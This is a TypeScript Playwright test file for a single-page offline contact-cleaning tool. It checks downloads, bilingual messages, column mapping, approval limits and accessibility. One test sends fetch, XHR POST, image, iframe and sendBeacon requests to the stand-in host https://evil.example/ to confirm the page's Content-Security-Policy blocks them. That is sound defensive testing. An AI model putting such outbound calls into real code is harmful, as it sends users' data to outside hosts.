import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { pathToFileURL } from 'node:url';
import { HtmlValidate } from 'html-validate';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { AS_OF, contactFile, contactNumber, folder, ROOT } from '../cli/support.js';
import { chrome } from '../reporters/html/chrome.js';
import { pagesIn, violationsIn } from '../reporters/html/pages.js';
import { commandOn, damagedWorkbook, SALON_CSV, SALON_LIST, salonWorkbook, VERSION } from './support.js';

const { webPage } = (await import(pathToFileURL(join(ROOT, 'scripts/web-page.mjs')).href)) as { webPage(): Promise<string> };
const PAGE = await webPage();

/** What a download holds. */
const downloaded = async (page: Page, name: string): Promise<Buffer> => {
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator(`a[download="${name}"]`).click()]);
  expect(download.suggestedFilename()).toBe(name);
  return buffer(await download.createReadStream());
};
const ended = (page: Page) => page.locator('#result:visible, #failure:visible').waitFor();
const check = async (page: Page, contacts: string, lists: readonly string[] = []): Promise<void> => {
  await page.locator('#run:enabled').waitFor();
  await page.locator('#contacts').setInputFiles(contacts);
  if (lists.length > 0) await page.locator('#lists').setInputFiles([...lists]);
  await page.locator('#as-of').fill(AS_OF);
  await page.locator('#run').click();
  await ended(page);
};
const textOf = (page: Page, id: string) => page.locator(id).textContent();

it('the page is valid HTML', async () => {
  const validator = new HtmlValidate({ extends: ['html-validate:recommended', 'html-validate:document'] });
  // Blocks of data are long, and nothing to read.
  const { results } = await validator.validateString(PAGE.replace(/(?<=<script type="application\/x-lzma"[^>]*>)[^<]*/g, ''));
  expect(results.flatMap(({ messages }) => messages.map(({ ruleId, message }) => `${ruleId}: ${message}`))).toEqual([]);
});

it('the page is one file of less than a megabyte and a half, and names nothing outside of it', () => {
  expect(PAGE.length).toBeLessThan(1.5 * 1024 * 1024);
  expect(PAGE).not.toMatch(/<(?:link|img|script src|iframe src)/);
  expect(PAGE).toContain(`<meta name="generator" content="lumo-check ${VERSION}">`);
  const policy = /Content-Security-Policy" content="([^"]*)"/.exec(PAGE)?.[1] ?? '';
  expect(policy.split('; ')).toEqual(
    expect.arrayContaining(["default-src 'none'", "connect-src 'none'", "form-action 'none'", "base-uri 'none'"]),
  );
  expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/);
});

describe.skipIf(chrome === undefined)('the page in Chromium', () => {
  const { urlOf, withPage } = pagesIn({ check: PAGE });
  const FRENCH = { locale: 'fr-FR', offline: true } as const;
  const at = folder({ 'contacts.csv': SALON_CSV, 'opposition.txt': SALON_LIST });
  const path = (name: string): string => join(at, name);
  beforeAll(async () => {
    writeFileSync(path('contacts.xlsx'), await salonWorkbook());
    writeFileSync(path('damaged.xlsx'), await damagedWorkbook());
  });

  it.each(['contacts.csv', 'contacts.xlsx'])('gives of %s what the command writes, offline, and asks nobody for anything', async (name) => {
    const file = await commandOn(name, { [name]: readFileSync(path(name)), 'opposition.txt': SALON_LIST }, [
      '--opposition',
      'opposition.txt',
    ]);
    await withPage(
      'check',
      async (page, { asked, said, failed }) => {
        await check(page, path(name), [path('opposition.txt')]);
        expect(await textOf(page, '#result-title')).toBe('5 contacts sur 10 restent dans le fichier nettoyé');
        expect(await downloaded(page, 'contacts.clean.csv')).toEqual(file('contacts.clean.csv'));
        expect(await downloaded(page, 'contacts.report.html')).toEqual(file('contacts.report.html'));
        expect(await downloaded(page, 'contacts.rejects.csv')).toEqual(file('rejects.csv'));
        const report = page.frameLocator('#report');
        expect(await report.locator('.page[lang="fr"] h1').textContent()).toContain('Utilisez le fichier nettoyé');
        expect(await report.locator('a[href^="https:"]:not([target="_blank"])').count()).toBe(0);
        // Its own file, then only what the page itself made: its worker, its report.
        expect(asked.filter((url) => !url.startsWith('blob:'))).toEqual([urlOf('check')]);
        expect([said, failed.filter((why) => why !== 'net::ERR_ABORTED')]).toEqual([[], []]);
      },
      FRENCH,
    );
  });

  it('says in words that a file is damaged, in both languages, and judges the next one', async () => {
    await withPage(
      'check',
      async (page) => {
        await check(page, path('damaged.xlsx'));
        expect(await textOf(page, '#failure-what')).toMatch(/^« damaged\.xlsx » est abîmé/);
        expect(await textOf(page, '#failure-hint')).toBe('Téléchargez-le ou exportez-le de nouveau.');
        expect(await textOf(page, '#failure-code')).toBe('LUMO_ZIP_BROKEN');
        await page.locator('label[for="lang-en"]').click();
        expect(await textOf(page, '#failure-what')).toMatch(/^"damaged\.xlsx" is damaged/);
        await check(page, path('contacts.csv'));
        expect(await textOf(page, '#result-title')).toMatch(/^\d of 10 contacts stay in the cleaned file$/);
        expect(await page.locator('#failure').isVisible()).toBe(false);
      },
      FRENCH,
    );
  });

  it('says what columns are taken for, and takes what somebody says instead', async () => {
    writeFileSync(path('unknown.csv'), 'wer;wann;egal\nclaire@acme.example;2026-01-05;x\npaul@acme.example;2019-01-05;y\n');
    await withPage('check', async (page) => {
      await page.locator('#run:enabled').waitFor();
      expect(await page.locator('#columns').isVisible()).toBe(false);
      await page.locator('#contacts').setInputFiles(path('unknown.csv'));
      await page.locator('#columns-summary').click();
      expect(await textOf(page, '#columns-summary')).toBe('Columns: 2 of 3 not recognised');
      expect(await page.getByLabel('wer').locator('option').first().textContent()).toBe('email');
      await page.getByLabel('wann').selectOption('collectedAt');
      expect(await textOf(page, '#columns-summary')).toBe('Columns: 1 of 3 not recognised');
      await page.getByLabel('egal').selectOption('Kept as it is, and not judged');
      expect(await violationsIn(page)).toEqual([]);
      await page.locator('#as-of').fill(AS_OF);
      await page.locator('#run').click();
      await ended(page);
      expect(await textOf(page, '#result-title')).toBe('1 of 2 contacts stay in the cleaned file');
      expect((await downloaded(page, 'unknown.clean.csv')).toString()).toContain('2026-01-05;x');
      // Another file is asked anew.
      await page.locator('#contacts').setInputFiles(path('contacts.csv'));
      await expect.poll(() => page.locator('#columns-list select').count()).toBeGreaterThan(3);
      expect(
        await page
          .locator('#columns-list select')
          .evaluateAll((all) => all.map((one) => (one as unknown as { value: string }).value).join('')),
      ).toBe('');
    });
  });

  it('asks for what is missing, keeps many contacts back until somebody approves, and can be stopped', async () => {
    writeFileSync(path('many.csv'), contactFile(...Array.from({ length: 6000 }, (_, i) => contactNumber(i))));
    // Long enough to be read piece by piece.
    writeFileSync(
      path('stop.txt'),
      `${Array.from({ length: 70_000 }, (_, i) => `gone${i}@elsewhere.example\n`).join('')}p7@acme7.example\n`,
    );
    await withPage('check', async (page) => {
      await page.locator('#run:enabled').click();
      expect(await textOf(page, '#status')).toBe('Choose the contact file first.');
      expect(await page.evaluate('document.activeElement.id')).toBe('contacts');
      await check(page, path('many.csv'), [path('stop.txt')]);
      expect(await textOf(page, '#result-title')).toBe('0 of 6,000 contacts stay in the cleaned file');
      expect(await textOf(page, '#result-note')).toContain('5,999 contacts would stay, and above 5,000 somebody must approve it');
      await page.getByRole('button', { name: 'Say who approved' }).click();
      await page.locator('#approved-by').fill('Claire Martin');
      await page.locator('#reason').fill('autumn campaign');
      await page.locator('#run').click();
      await page.locator('a[download="many.clean.csv"]').waitFor();
      // Pressed as soon as it shows: a warm browser is done before a click gets there from outside.
      await page.evaluate(`(async () => {
        document.getElementById('run').click();
        const cancel = document.getElementById('cancel');
        while (cancel.offsetParent === null || cancel.disabled) await new Promise(requestAnimationFrame);
        cancel.click();
      })()`);
      expect(await textOf(page, '#status')).toBe('Stopped. Nothing was written.');
      await page.locator('#run:enabled').click();
      await ended(page);
    });
  });

  it('its policy stops whatever would connect', async () => {
    await withPage('check', async (page, { asked, said, failed }) => {
      await page.locator('#run:enabled').waitFor();
      const tried = await page.evaluate(`Promise.allSettled([
        fetch('https://evil.example/'),
        new Promise((_, no) => { const request = new XMLHttpRequest(); request.onerror = no; request.open('POST', 'https://evil.example/'); request.send('x'); }),
        new Promise((_, no) => { const image = new Image(); image.onerror = no; image.src = 'https://evil.example/x.png'; }),
        new Promise((_, no) => { const frame = document.createElement('iframe'); document.addEventListener('securitypolicyviolation', no, { once: true }); frame.src = 'https://evil.example/'; document.body.append(frame); }),
      ]).then((all) => all.map(({ status }) => status))`);
      expect(tried).toEqual(['rejected', 'rejected', 'rejected', 'rejected']);
      await page.evaluate(`navigator.sendBeacon('https://evil.example/', 'x')`);
      await expect.poll(() => said.filter((text) => /Content Security Policy/.test(text)).length).toBeGreaterThanOrEqual(5);
      // What the policy blocks is told as a request that failed for its sake, and leaves nowhere.
      expect(asked.filter((url) => url.startsWith('https:')).length).toBe(failed.filter((why) => why === 'csp').length);
      expect(failed.filter((why) => why !== 'csp')).toEqual([]);
    });
  });

  it('has the contrast of text in its light colours too', async () => {
    await withPage('check', async (page) => {
      await page.locator('#run:enabled').waitFor();
      expect(await violationsIn(page)).toEqual([]);
    });
  });

  it('serves those who do not see it, or use no mouse, in the dark', async () => {
    await withPage(
      'check',
      async (page) => {
        await page.locator('#run:enabled').waitFor();
        expect(await violationsIn(page)).toEqual([]);
        const met = new Set<string>();
        for (let i = 0; i < 16; i++) {
          await page.keyboard.press('Tab');
          met.add(String(await page.evaluate('document.activeElement.id || document.activeElement.value')));
        }
        for (const id of ['lang-en', 'contacts', 'lists', 'preset', 'email', 'as-of', 'run']) expect(met).toContain(id);
        await page.locator('#more summary').click();
        await check(page, path('contacts.csv'), [path('opposition.txt')]);
        expect(await page.evaluate('document.activeElement.id')).toBe('result-title');
        expect(await violationsIn(page)).toEqual([]);
      },
      { colorScheme: 'dark', locale: 'en-GB' },
    );
  });

  it('takes what is dropped on a zone, and nothing that misses it', async () => {
    await withPage('check', async (page) => {
      await page.locator('#run:enabled').waitFor();
      const drop = (selector: string, name: string) =>
        page.evaluate(
          `(() => { const data = new DataTransfer(); data.items.add(new File(['email\\na@acme.example\\n'], ${JSON.stringify(name)})); document.querySelector(${JSON.stringify(selector)}).dispatchEvent(new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer: data })); })()`,
        );
      await drop('h1', 'missed.csv');
      await drop('#contacts-zone', 'dropped.csv');
      await drop('#lists-zone', 'tps.csv');
      expect(await textOf(page, '#contacts-chosen')).toBe('dropped.csv (1 KB)');
      const list = page.locator('#lists-chosen li');
      expect(await list.locator('input').isVisible()).toBe(false);
      await list.getByLabel('What tps.csv is').selectOption('uk-tps');
      const date = list.getByLabel('Date of this copy of tps.csv');
      await date.fill('2026-11-20');
      expect((await date.boundingBox())?.width).toBeGreaterThan(80);
      await list.getByRole('button', { name: 'Remove tps.csv' }).click();
      expect(await list.count()).toBe(0);
    });
  });

  it('the licences of what it holds can be read', async () => {
    await withPage('check', async (page) => {
      await page.locator('#licences summary').click();
      // Asked from outside: the policy of the page lets no text be run in it again and again.
      await expect.poll(() => textOf(page, '#licence-text')).toMatch(/libphonenumber-js[\s\S]*zod/);
    });
  });
});
